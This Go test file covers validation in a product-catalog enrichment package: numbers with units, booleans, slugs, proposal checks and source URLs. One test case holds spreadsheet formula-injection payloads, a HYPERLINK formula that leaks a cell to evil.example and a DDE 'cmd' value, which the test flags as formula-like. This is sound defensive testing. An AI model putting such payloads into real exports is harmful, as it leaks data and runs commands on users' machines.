package enrichment_test

import (
	"encoding/json/v2"
	"slices"
	"strings"
	"testing"

	"github.com/catalog-enrichment/enrichment/enrichment"
)

func TestCheckNumber(t *testing.T) {
	rows := []struct{ detail, unit, want, code string }{
		{"42", "EU", "42", ""},
		{"-3.25", "", "-3.25", ""},
		{"0", "W", "0", ""},
		{"42 EU", "EU", "42", enrichment.IssueUnitRemoved},
		{"-1.5\tkg", "kg", "-1.5", enrichment.IssueUnitRemoved},
		{"2  kg", "kg", "2", enrichment.IssueUnitRemoved},
		{"2kg", "kg", "2kg", enrichment.IssueNotANumber},   // no whitespace before the unit
		{"2 KG", "kg", "2 KG", enrichment.IssueNotANumber}, // exactly the unit
		{"2 kg", "", "2 kg", enrichment.IssueNotANumber},   // the option has no unit
		{"2 g", "kg", "2 g", enrichment.IssueNotANumber},   // another unit
		{"approx. 2kg", "kg", "approx. 2kg", enrichment.IssueNotANumber},
		{"1.", "", "1.", enrichment.IssueNotANumber},
		{".5", "", ".5", enrichment.IssueNotANumber},
		{"+1", "", "+1", enrichment.IssueNotANumber},
		{"1e3", "", "1e3", enrichment.IssueNotANumber},
		{"1,5", "", "1,5", enrichment.IssueNotANumber},
		{"-", "", "-", enrichment.IssueNotANumber},
		{" 42", "", " 42", enrichment.IssueNotANumber},
		{"٤٢", "", "٤٢", enrichment.IssueNotANumber}, // digits of another script
		{" kg", "kg", " kg", enrichment.IssueNotANumber},
	}
	for _, r := range rows {
		got, code := enrichment.CheckNumber(r.detail, r.unit)
		if got != r.want || code != r.code {
			t.Errorf("CheckNumber(%q, %q) = %q, %q; want %q, %q", r.detail, r.unit, got, code, r.want, r.code)
		}
	}
}

func TestCheckBoolean(t *testing.T) {
	rows := []struct{ detail, want, code string }{
		{"true", "true", ""},
		{"false", "false", ""},
		{"TRUE", "true", enrichment.IssueNormalized},
		{"Yes", "true", enrichment.IssueNormalized},
		{"yEs", "true", enrichment.IssueNormalized},
		{"1", "true", enrichment.IssueNormalized},
		{"No", "false", enrichment.IssueNormalized},
		{"0", "false", enrichment.IssueNormalized},
		{"False", "false", enrichment.IssueNormalized},
		{"y", "y", enrichment.IssueNotABoolean},
		{"yes ", "yes ", enrichment.IssueNotABoolean},
		{"2", "2", enrichment.IssueNotABoolean},
		{"on", "on", enrichment.IssueNotABoolean},
	}
	for _, r := range rows {
		got, code := enrichment.CheckBoolean(r.detail)
		if got != r.want || code != r.code {
			t.Errorf("CheckBoolean(%q) = %q, %q; want %q, %q", r.detail, got, code, r.want, r.code)
		}
	}
}

func TestValidSlug(t *testing.T) {
	for s, want := range map[string]bool{
		"runner": true, "trail-runner-2": true, "a": true, "42": true,
		"": false, "Runner": false, "trail runner": false, "trail--runner": false, "-runner": false,
		"runner-": false, "trail_runner": false, "läufer": false, "a.b": false,
	} {
		if got := enrichment.ValidSlug(s); got != want {
			t.Errorf("ValidSlug(%q) = %v, want %v", s, got, want)
		}
	}
}

// TestCheckProposal runs the checks on whole proposals: what is kept, what
// is dropped and listed, and the issues, in order.
func TestCheckProposal(t *testing.T) {
	str := func(s string) *string { return &s }
	attrs := func(a ...enrichment.StoredAttribute) *[]enrichment.StoredAttribute { return &a }
	product := enrichment.CheckProduct{
		Name: "Runner", Slug: "runner", Description: "A shoe.", Files: []string{"a.pdf"},
		Attributes: []enrichment.StoredAttribute{{Attribute: "Color", Detail: "Red", OptionID: 1}, {Attribute: "Size", Detail: "42", OptionID: 2}},
		Options: []enrichment.CheckOption{{ID: 1, Name: "Color", DataType: "STRING"}, {ID: 2, Name: "Size", Unit: "EU", DataType: "NUMBER"},
			{ID: 3, Name: "Waterproof", DataType: "BOOLEAN"}, {ID: 4, Name: "Weight", Unit: "g", DataType: "number"}},
	}
	rows := []struct {
		name     string
		fields   enrichment.Fields
		places   []int // submitted indexes of the attributes
		inUse    bool
		want     string // the fields kept, as JSON
		ignored  string
		issues   string // field:code, space-separated
		severity string // severities, in the order of issues
	}{
		{"nothing to say", enrichment.Fields{Name: str("Runner 2"), Slug: str("runner-2")}, nil, false,
			`{"name":"Runner 2","slug":"runner-2"}`, "", "", ""},
		{"unchanged text fields and files", enrichment.Fields{Name: str("Runner"), Slug: str("runner"), Description: str("A shoe."),
			Files: &[]string{"a.pdf"}}, nil, true, `{}`, "name,slug,description,files",
			"name:unchanged slug:unchanged description:unchanged files:unchanged", "warning warning warning warning"},
		{"a slug in use", enrichment.Fields{Slug: str("trail")}, nil, true, `{"slug":"trail"}`, "", "slug:slug_in_use", "warning"},
		{"other files", enrichment.Fields{Files: &[]string{"a.pdf", "b.pdf"}}, nil, false, `{"files":["a.pdf","b.pdf"]}`, "", "", ""},
		{"attributes", enrichment.Fields{Attributes: attrs(
			enrichment.StoredAttribute{Attribute: "color", Detail: "Blue"},
			enrichment.StoredAttribute{Attribute: "Size", Detail: "43 EU"},
			enrichment.StoredAttribute{Attribute: "Size", Detail: "about 43"},
			enrichment.StoredAttribute{Attribute: "waterproof", Detail: "Yes"},
			enrichment.StoredAttribute{Attribute: "Waterproof", Detail: "maybe"},
			enrichment.StoredAttribute{Attribute: "Sole", Detail: "Rubber"},
			enrichment.StoredAttribute{Attribute: "Color", Detail: "Red"},
			enrichment.StoredAttribute{Attribute: "SIZE", Detail: "42 EU"},
			enrichment.StoredAttribute{Attribute: "Weight", Detail: "300 g"},
		)}, []int{0, 1, 2, 4, 5, 6, 7, 8, 9}, false,
			`{"attributes":[{"attribute":"Color","detail":"Blue","optionId":1},{"attribute":"Size","detail":"43"},` +
				`{"attribute":"Waterproof","detail":"true","optionId":3},{"attribute":"Sole","detail":"Rubber"},{"attribute":"Weight","detail":"300"}]}`,
			"attributes.2,attributes.5,attributes.7,attributes.8",
			"attributes.0:renamed attributes.1:unit_removed attributes.2:not_a_number attributes.4:renamed attributes.4:normalized " +
				"attributes.5:not_a_boolean attributes.6:not_in_template attributes.7:unchanged attributes.8:renamed attributes.8:unit_removed " +
				"attributes.8:unchanged attributes.9:unit_removed",
			"warning warning error warning warning error warning warning warning warning warning warning"},
		{"formulas", enrichment.Fields{Name: str(`=HYPERLINK("http://evil.example/?leak="&A2,"Click")`), Description: str("-5 degrees"),
			Attributes: attrs(enrichment.StoredAttribute{Attribute: "Sole", Detail: "@SUM(1+1)"}, enrichment.StoredAttribute{Attribute: "Color", Detail: "Red"},
				enrichment.StoredAttribute{Attribute: "+Grip", Detail: "high"}), Files: &[]string{"a.pdf", "-cmd|' /C calc'!A0"}}, nil, false,
			`{"name":"=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")","description":"-5 degrees",` +
				`"attributes":[{"attribute":"Sole","detail":"@SUM(1+1)"},{"attribute":"+Grip","detail":"high"}],"files":["a.pdf","-cmd|' /C calc'!A0"]}`,
			"attributes.1", "attributes.0:not_in_template attributes.1:unchanged attributes.2:not_in_template name:formula_like attributes.0:formula_like attributes.2:formula_like files:formula_like",
			"warning warning warning warning warning warning warning"},
		{"no attribute left", enrichment.Fields{Name: str("New"), Attributes: attrs(enrichment.StoredAttribute{Attribute: "Color", Detail: "Red"})},
			nil, false, `{"name":"New"}`, "attributes.0", "attributes.0:unchanged", "warning"},
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			p := enrichment.Proposal{Fields: r.fields, AttributePlaces: r.places}
			pr := product
			pr.SlugInUse = r.inUse
			issues := enrichment.CheckProposal(&p, pr)
			got, err := json.Marshal(p.Fields)
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != r.want {
				t.Errorf("kept\n%s\nwant\n%s", got, r.want)
			}
			if strings.Join(p.Ignored, ",") != r.ignored {
				t.Errorf("ignored %q, want %q", p.Ignored, r.ignored)
			}
			var codes, severities []string
			for _, is := range issues {
				codes = append(codes, is.Field+":"+is.Code)
				severities = append(severities, is.Severity)
				if is.Message == "" {
					t.Errorf("%s without a message", is.Code)
				}
			}
			if strings.Join(codes, " ") != r.issues || strings.Join(severities, " ") != r.severity {
				t.Errorf("issues\n%s (%s)\nwant\n%s (%s)", strings.Join(codes, " "), strings.Join(severities, " "), r.issues, r.severity)
			}
		})
	}
}

func TestCheckSlug(t *testing.T) {
	str := func(s string) *string { return &s }
	p := enrichment.Proposal{Fields: enrichment.Fields{Name: str("N"), Slug: str("Trail Runner")}}
	issues := enrichment.CheckSlug(&p)
	if p.Fields.Slug != nil || !slices.Equal(p.Ignored, []string{"slug"}) || len(issues) != 1 ||
		issues[0].Code != enrichment.IssueInvalidSlug || issues[0].Severity != enrichment.SeverityError || issues[0].Field != "slug" {
		t.Errorf("slug %v, ignored %v, issues %+v", p.Fields.Slug, p.Ignored, issues)
	}
	p = enrichment.Proposal{Fields: enrichment.Fields{Slug: str("trail-runner")}}
	if issues := enrichment.CheckSlug(&p); issues != nil || p.Fields.Slug == nil {
		t.Errorf("a valid slug: %+v", issues)
	}
}

func TestSourceFault(t *testing.T) {
	str := func(s string) *string { return &s }
	fields := enrichment.Fields{Name: str("N"), Attributes: &[]enrichment.StoredAttribute{{Attribute: "Color", Detail: "Red"}}}
	rows := []struct {
		source enrichment.Source
		ok     bool
	}{
		{enrichment.Source{Field: "name", URL: "https://maker.example/p/1"}, true},
		{enrichment.Source{Field: "attributes.Color", URL: "HTTP://maker.example/p/1", Quote: "Colour: red"}, true},
		{enrichment.Source{Field: "attributes", URL: "https://maker.example/"}, true},
		{enrichment.Source{Field: "slug", URL: "https://maker.example/"}, false},                         // not proposed
		{enrichment.Source{Field: "attributes.color", URL: "https://maker.example/"}, false},             // not as proposed
		{enrichment.Source{Field: "Name", URL: "https://maker.example/"}, false},                         // no such field
		{enrichment.Source{Field: "name", URL: "/p/1"}, false},                                           // relative
		{enrichment.Source{Field: "name", URL: "ftp://maker.example/p"}, false},                          // not http
		{enrichment.Source{Field: "name", URL: "https://"}, false},                                       // no host
		{enrichment.Source{Field: "name", URL: "https://m.example/" + strings.Repeat("a", 1983)}, false}, // 2001 characters
		{enrichment.Source{Field: "name", URL: "https://m.example/" + strings.Repeat("a", 1982)}, true},  // 2000
		{enrichment.Source{Field: "name", URL: "https://m.example/", Quote: strings.Repeat("é", 1000)}, true},
		{enrichment.Source{Field: "name", URL: "https://m.example/", Quote: strings.Repeat("é", 1001)}, false},
	}
	for _, r := range rows {
		if fault := enrichment.SourceFault(r.source, fields); (fault == "") != r.ok {
			t.Errorf("SourceFault(%+v) = %q, want ok %v", r.source, fault, r.ok)
		}
	}
}

func TestValidModelText(t *testing.T) {
	for s, want := range map[string]bool{"": false, "g": true, strings.Repeat("é", 100): true, strings.Repeat("a", 101): false} {
		if got := enrichment.ValidModelText(s); got != want {
			t.Errorf("ValidModelText(%d characters) = %v", len([]rune(s)), got)
		}
	}
}
